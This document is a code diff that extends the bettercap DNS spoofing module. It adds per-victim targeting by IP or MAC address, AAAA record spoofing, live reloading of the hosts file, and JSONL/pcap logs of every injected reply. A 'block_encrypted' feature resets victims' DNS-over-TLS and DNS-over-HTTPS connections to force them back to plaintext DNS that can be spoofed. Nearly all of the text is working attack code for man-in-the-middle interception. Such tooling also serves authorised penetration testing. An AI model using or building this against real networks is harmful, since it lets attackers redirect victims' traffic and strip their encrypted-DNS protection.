@@ -4,8 +4,11 @@ import (
 	"bytes"
 	"fmt"
 	"net"
+	"os"
 	"strconv"
+	"strings"
 	"sync"
+	"time"
 
 	"github.com/bettercap/bettercap/log"
 	"github.com/bettercap/bettercap/network"
@@ -16,6 +19,7 @@ import (
 	"github.com/google/gopacket/layers"
 	"github.com/google/gopacket/pcap"
 
+	"github.com/evilsocket/islazy/fs"
 	"github.com/evilsocket/islazy/tui"
 )
 
@@ -25,6 +29,21 @@ type DNSSpoofer struct {
 	Hosts         Hosts
 	TTL           uint32
 	All           bool
+	addresses     []net.IP
+	macs          []net.HardwareAddr
+	domains       []string
+	address       net.IP
+	address6      net.IP
+	hostsFile     string
+	hostsReload   bool
+	hostsModTime  time.Time
+	hostsLock     *sync.RWMutex
+	blockEncrypt  bool
+	resolvers     []net.IP
+	dohDomains    []HostEntry
+	auditFile     string
+	auditPcap     string
+	auditLog      *auditLog
 	waitGroup     *sync.WaitGroup
 	pktSourceChan chan gopacket.Packet
 }
@@ -35,7 +54,10 @@ func NewDNSSpoofer(s *session.Session) *DNSSpoofer {
 		Handle:        nil,
 		All:           false,
 		Hosts:         Hosts{},
+		addresses:     make([]net.IP, 0),
+		macs:          make([]net.HardwareAddr, 0),
 		TTL:           1024,
+		hostsLock:     &sync.RWMutex{},
 		waitGroup:     &sync.WaitGroup{},
 	}
 
@@ -44,7 +66,11 @@ func NewDNSSpoofer(s *session.Session) *DNSSpoofer {
 	mod.AddParam(session.NewStringParameter("dns.spoof.hosts",
 		"",
 		"",
-		"If not empty, this hosts file will be used to map domains to IP addresses."))
+		"If not empty, this hosts file will be used to map domains to IP addresses. Every line is an address followed by one or more domains, which can be wildcards, lines with domains only are mapped to dns.spoof.address and dns.spoof.address6."))
+
+	mod.AddParam(session.NewBoolParameter("dns.spoof.hosts.reload",
+		"true",
+		"If true, the hosts file will be reloaded every time it changes."))
 
 	mod.AddParam(session.NewStringParameter("dns.spoof.domains",
 		"",
@@ -56,15 +82,49 @@ func NewDNSSpoofer(s *session.Session) *DNSSpoofer {
 		session.IPv4Validator,
 		"IP address to map the domains to."))
 
+	mod.AddParam(session.NewStringParameter("dns.spoof.address6",
+		session.ParamIfaceAddress6,
+		"",
+		"IPv6 address to map the domains to for AAAA queries, if empty AAAA queries won't be spoofed."))
+
 	mod.AddParam(session.NewBoolParameter("dns.spoof.all",
 		"false",
 		"If true the module will reply to every DNS request, otherwise it will only reply to the one targeting the local pc."))
 
+	mod.AddParam(session.NewStringParameter("dns.spoof.targets",
+		"",
+		"",
+		"Comma separated list of IP addresses, MAC addresses or aliases of the clients to send spoofed replies to, also supports nmap style IP ranges. If empty every client will be spoofed."))
+
+	mod.AddParam(session.NewBoolParameter("dns.spoof.block_encrypted",
+		"false",
+		"If true, DNS-over-TLS and DNS-over-HTTPS connections of the targets will be reset so that they fall back to plaintext DNS."))
+
+	mod.AddParam(session.NewStringParameter("dns.spoof.block_encrypted.resolvers",
+		defaultResolvers,
+		"",
+		"Comma separated list of addresses of known DNS-over-HTTPS resolvers to block."))
+
+	mod.AddParam(session.NewStringParameter("dns.spoof.block_encrypted.domains",
+		defaultDoHDomains,
+		"",
+		"Comma separated list of DNS-over-HTTPS server names to block when found in the TLS SNI, wildcards are supported."))
+
 	mod.AddParam(session.NewStringParameter("dns.spoof.ttl",
 		"1024",
 		"^[0-9]+$",
 		"TTL of spoofed DNS replies."))
 
+	mod.AddParam(session.NewStringParameter("dns.spoof.audit",
+		"",
+		"",
+		"If not empty, every spoofed reply will be appended to this JSONL file with the victim, the query, the injected answer and its timestamp."))
+
+	mod.AddParam(session.NewStringParameter("dns.spoof.audit.pcap",
+		"",
+		"",
+		"If not empty, every spoofed query and the injected reply will be appended to this pcap file."))
+
 	mod.AddHandler(session.NewModuleHandler("dns.spoof on", "",
 		"Start the DNS spoofer in the background.",
 		func(args []string) error {
@@ -95,48 +155,63 @@ func (mod DNSSpoofer) Author() string {
 func (mod *DNSSpoofer) Configure() error {
 	var err error
 	var ttl string
-	var hostsFile string
-	var domains []string
-	var address net.IP
+	var targets string
+	var resolvers []string
+	var dohDomains []string
 
 	if mod.Running() {
 		return session.ErrAlreadyStarted(mod.Name())
+	} else if err, mod.blockEncrypt = mod.BoolParam("dns.spoof.block_encrypted"); err != nil {
+		return err
+	} else if err, resolvers = mod.ListParam("dns.spoof.block_encrypted.resolvers"); err != nil {
+		return err
+	} else if err, dohDomains = mod.ListParam("dns.spoof.block_encrypted.domains"); err != nil {
+		return err
+	} else if err = mod.parseEncrypted(resolvers, dohDomains); err != nil {
+		return err
 	} else if mod.Handle, err = network.Capture(mod.Session.Interface.Name()); err != nil {
 		return err
-	} else if err = mod.Handle.SetBPFFilter("udp"); err != nil {
+	} else if err = mod.Handle.SetBPFFilter(mod.bpfFilter()); err != nil {
 		return err
 	} else if err, mod.All = mod.BoolParam("dns.spoof.all"); err != nil {
 		return err
-	} else if err, address = mod.IPParam("dns.spoof.address"); err != nil {
+	} else if err, mod.address = mod.IPParam("dns.spoof.address"); err != nil {
+		return err
+	} else if err, mod.address6 = mod.IPParam("dns.spoof.address6"); err != nil {
 		return err
-	} else if err, domains = mod.ListParam("dns.spoof.domains"); err != nil {
+	} else if err, mod.domains = mod.ListParam("dns.spoof.domains"); err != nil {
 		return err
-	} else if err, hostsFile = mod.StringParam("dns.spoof.hosts"); err != nil {
+	} else if err, mod.hostsFile = mod.StringParam("dns.spoof.hosts"); err != nil {
+		return err
+	} else if err, mod.hostsReload = mod.BoolParam("dns.spoof.hosts.reload"); err != nil {
 		return err
 	} else if err, ttl = mod.StringParam("dns.spoof.ttl"); err != nil {
 		return err
+	} else if err, targets = mod.StringParam("dns.spoof.targets"); err != nil {
+		return err
+	} else if err = mod.parseTargets(targets); err != nil {
+		return err
+	} else if err, mod.auditFile = mod.StringParam("dns.spoof.audit"); err != nil {
+		return err
+	} else if err, mod.auditPcap = mod.StringParam("dns.spoof.audit.pcap"); err != nil {
+		return err
 	}
 
-	mod.Hosts = Hosts{}
-	for _, domain := range domains {
-		mod.Hosts = append(mod.Hosts, NewHostEntry(domain, address))
+	if mod.address6 != nil && mod.address6.To4() != nil {
+		return fmt.Errorf("dns.spoof.address6 is not an IPv6 address")
 	}
 
-	if hostsFile != "" {
-		mod.Info("loading hosts from file %s ...", hostsFile)
-		if err, hosts := HostsFromFile(hostsFile, address); err != nil {
-			return fmt.Errorf("error reading hosts from file %s: %v", hostsFile, err)
-		} else {
-			mod.Hosts = append(mod.Hosts, hosts...)
+	if mod.hostsFile != "" {
+		if mod.hostsFile, err = fs.Expand(mod.hostsFile); err != nil {
+			return err
 		}
+		mod.Info("loading hosts from file %s ...", mod.hostsFile)
 	}
 
-	if len(mod.Hosts) == 0 {
-		return fmt.Errorf("at least dns.spoof.hosts or dns.spoof.domains must be filled")
-	}
-
-	for _, entry := range mod.Hosts {
-		mod.Info("%s -> %s", entry.Host, entry.Address)
+	if err = mod.loadHosts(); err != nil {
+		return err
+	} else if err = mod.openAudit(); err != nil {
+		return err
 	}
 
 	if !mod.Session.Firewall.IsForwardingEnabled() {
@@ -150,7 +225,134 @@ func (mod *DNSSpoofer) Configure() error {
 	return nil
 }
 
+// loadHosts builds the hosts list from the domains parameter and from
+// the hosts file, if set.
+func (mod *DNSSpoofer) loadHosts() error {
+	hosts := Hosts{}
+	for _, domain := range mod.domains {
+		entry := NewHostEntry(domain, mod.address)
+		entry.Address6 = mod.address6
+		hosts = append(hosts, entry)
+	}
+
+	if mod.hostsFile != "" {
+		info, err := os.Stat(mod.hostsFile)
+		if err != nil {
+			return fmt.Errorf("error reading hosts from file %s: %v", mod.hostsFile, err)
+		}
+
+		if err, fileHosts := HostsFromFile(mod.hostsFile, mod.address, mod.address6); err != nil {
+			return fmt.Errorf("error reading hosts from file %s: %v", mod.hostsFile, err)
+		} else {
+			hosts = append(hosts, fileHosts...)
+		}
+		mod.hostsModTime = info.ModTime()
+	}
+
+	if len(hosts) == 0 {
+		return fmt.Errorf("at least dns.spoof.hosts or dns.spoof.domains must be filled")
+	}
+
+	mod.hostsLock.Lock()
+	defer mod.hostsLock.Unlock()
+	mod.Hosts = hosts
+
+	return nil
+}
+
+func (mod *DNSSpoofer) hostsWatcher() {
+	defer mod.waitGroup.Done()
+
+	mod.Debug("watching %s for changes", mod.hostsFile)
+
+	for mod.Running() {
+		time.Sleep(1 * time.Second)
+
+		if info, err := os.Stat(mod.hostsFile); err != nil {
+			mod.Debug("can't stat %s: %v", mod.hostsFile, err)
+		} else if !info.ModTime().Equal(mod.hostsModTime) {
+			// keep the previous list if the new one is broken
+			if err = mod.loadHosts(); err != nil {
+				mod.Error("%v", err)
+				mod.hostsModTime = info.ModTime()
+			} else {
+				mod.hostsLock.RLock()
+				mod.Info("%s changed, reloaded %d entries", mod.hostsFile, len(mod.Hosts))
+				mod.hostsLock.RUnlock()
+			}
+		}
+	}
+}
+
+func (mod *DNSSpoofer) resolve(host string, qType layers.DNSType) net.IP {
+	mod.hostsLock.RLock()
+	defer mod.hostsLock.RUnlock()
+	return mod.Hosts.Resolve(host, qType)
+}
+
+func (mod *DNSSpoofer) parseTargets(targets string) error {
+	mod.addresses = make([]net.IP, 0)
+	others := make([]string, 0)
+	// IPv6 addresses are not supported by ParseTargets
+	for _, target := range strings.Split(targets, ",") {
+		if ip := net.ParseIP(strings.TrimSpace(target)); ip != nil && ip.To4() == nil {
+			mod.addresses = append(mod.addresses, ip)
+		} else {
+			others = append(others, target)
+		}
+	}
+
+	ips, macs, err := network.ParseTargets(strings.Join(others, ","), mod.Session.Lan.Aliases())
+	if err != nil {
+		return err
+	}
+
+	mod.addresses = append(mod.addresses, ips...)
+	mod.macs = macs
+
+	if len(mod.addresses) > 0 || len(mod.macs) > 0 {
+		mod.Info("only spoofing replies to %d addresses and %d hardware addresses", len(mod.addresses), len(mod.macs))
+	}
+
+	return nil
+}
+
+// isTarget returns true if no targets are set or if the query comes
+// from one of them.
+func (mod *DNSSpoofer) isTarget(pkt gopacket.Packet, srcHW net.HardwareAddr) bool {
+	if len(mod.addresses) == 0 && len(mod.macs) == 0 {
+		return true
+	}
+
+	for _, hw := range mod.macs {
+		if bytes.Equal(hw, srcHW) {
+			return true
+		}
+	}
+
+	var srcIP net.IP
+	if ip4, ok := pkt.Layer(layers.LayerTypeIPv4).(*layers.IPv4); ok {
+		srcIP = ip4.SrcIP
+	} else if ip6, ok := pkt.Layer(layers.LayerTypeIPv6).(*layers.IPv6); ok {
+		srcIP = ip6.SrcIP
+	}
+
+	for _, ip := range mod.addresses {
+		if ip.Equal(srcIP) {
+			return true
+		}
+	}
+
+	return false
+}
+
 func DnsReply(s *session.Session, TTL uint32, pkt gopacket.Packet, peth *layers.Ethernet, pudp *layers.UDP, domain string, address net.IP, req *layers.DNS, target net.HardwareAddr) (string, string) {
+	redir, who, _ := dnsReply(s, TTL, pkt, peth, pudp, domain, address, req, target)
+	return redir, who
+}
+
+// dnsReply works like DnsReply but also returns the injected packet.
+func dnsReply(s *session.Session, TTL uint32, pkt gopacket.Packet, peth *layers.Ethernet, pudp *layers.UDP, domain string, address net.IP, req *layers.DNS, target net.HardwareAddr) (string, string, []byte) {
 	redir := fmt.Sprintf("(->%s)", address.String())
 	who := target.String()
 
@@ -164,7 +366,7 @@ func DnsReply(s *session.Session, TTL uint32, pkt gopacket.Packet, peth *layers.
 	nlayer := pkt.NetworkLayer()
 	if nlayer == nil {
 		log.Debug("missing network layer skipping packet.")
-		return "", ""
+		return "", "", nil
 	}
 
 	var eType layers.EthernetType
@@ -199,6 +401,10 @@ func DnsReply(s *session.Session, TTL uint32, pkt gopacket.Packet, peth *layers.
 		if q.Type.String() == "Unknown" {
 			continue
 		}
+		// only answer with records matching the address family
+		if (q.Type == layers.DNSTypeAAAA) != (address.To4() == nil) {
+			continue
+		}
 
 		answers = append(answers,
 			layers.DNSResourceRecord{
@@ -240,7 +446,7 @@ func DnsReply(s *session.Session, TTL uint32, pkt gopacket.Packet, peth *layers.
 		err, raw = packets.Serialize(&eth, &ip6, &udp, &dns)
 		if err != nil {
 			log.Error("error serializing ipv6 packet: %s.", err)
-			return "", ""
+			return "", "", nil
 		}
 	} else {
 		ip4 := layers.IPv4{
@@ -261,37 +467,62 @@ func DnsReply(s *session.Session, TTL uint32, pkt gopacket.Packet, peth *layers.
 		err, raw = packets.Serialize(&eth, &ip4, &udp, &dns)
 		if err != nil {
 			log.Error("error serializing ipv4 packet: %s.", err)
-			return "", ""
+			return "", "", nil
 		}
 	}
 
 	log.Debug("sending %d bytes of packet ...", len(raw))
 	if err := s.Queue.Send(raw); err != nil {
 		log.Error("error sending packet: %s", err)
-		return "", ""
+		return "", "", nil
 	}
 
-	return redir, who
+	return redir, who, raw
+}
+
+func (mod *DNSSpoofer) bpfFilter() string {
+	if mod.blockEncrypt {
+		return fmt.Sprintf("udp or (tcp and (dst port %d or dst port %d))", dotPort, dohPort)
+	}
+	return "udp"
 }
 
 func (mod *DNSSpoofer) onPacket(pkt gopacket.Packet) {
 	typeEth := pkt.Layer(layers.LayerTypeEthernet)
-	typeUDP := pkt.Layer(layers.LayerTypeUDP)
-	if typeEth == nil || typeUDP == nil {
+	if typeEth == nil {
 		return
 	}
 
 	eth := typeEth.(*layers.Ethernet)
+	if tcp, ok := pkt.Layer(layers.LayerTypeTCP).(*layers.TCP); ok {
+		// only connections routed through us by the spoofers
+		if mod.blockEncrypt && bytes.Equal(eth.DstMAC, mod.Session.Interface.HW) && mod.isTarget(pkt, eth.SrcMAC) {
+			mod.blockEncrypted(pkt, eth, tcp)
+		}
+		return
+	}
+
+	typeUDP := pkt.Layer(layers.LayerTypeUDP)
+	if typeUDP == nil {
+		return
+	}
+
 	if mod.All || bytes.Equal(eth.DstMAC, mod.Session.Interface.HW) {
 		dns, parsed := pkt.Layer(layers.LayerTypeDNS).(*layers.DNS)
 		if parsed && dns.OpCode == layers.DNSOpCodeQuery && len(dns.Questions) > 0 && len(dns.Answers) == 0 {
+			if !mod.isTarget(pkt, eth.SrcMAC) {
+				mod.Debug("skipping query from %s, not a target", eth.SrcMAC)
+				return
+			}
+
 			udp := typeUDP.(*layers.UDP)
 			for _, q := range dns.Questions {
 				qName := string(q.Name)
-				if address := mod.Hosts.Resolve(qName); address != nil {
-					redir, who := DnsReply(mod.Session, mod.TTL, pkt, eth, udp, qName, address, dns, eth.SrcMAC)
+				if address := mod.resolve(qName, q.Type); address != nil {
+					redir, who, raw := dnsReply(mod.Session, mod.TTL, pkt, eth, udp, qName, address, dns, eth.SrcMAC)
 					if redir != "" && who != "" {
 						mod.Info("sending spoofed DNS reply for %s %s to %s.", tui.Red(qName), tui.Dim(redir), tui.Bold(who))
+						mod.audit(pkt, eth, q, address, raw)
 					}
 					break
 				} else {
@@ -311,6 +542,11 @@ func (mod *DNSSpoofer) Start() error {
 		mod.waitGroup.Add(1)
 		defer mod.waitGroup.Done()
 
+		if mod.hostsFile != "" && mod.hostsReload {
+			mod.waitGroup.Add(1)
+			go mod.hostsWatcher()
+		}
+
 		src := gopacket.NewPacketSource(mod.Handle, mod.Handle.LinkType())
 		mod.pktSourceChan = src.Packets()
 		for packet := range mod.pktSourceChan {
@@ -328,5 +564,6 @@ func (mod *DNSSpoofer) Stop() error {
 		mod.pktSourceChan <- nil
 		mod.Handle.Close()
 		mod.waitGroup.Wait()
+		mod.closeAudit()
 	})
 }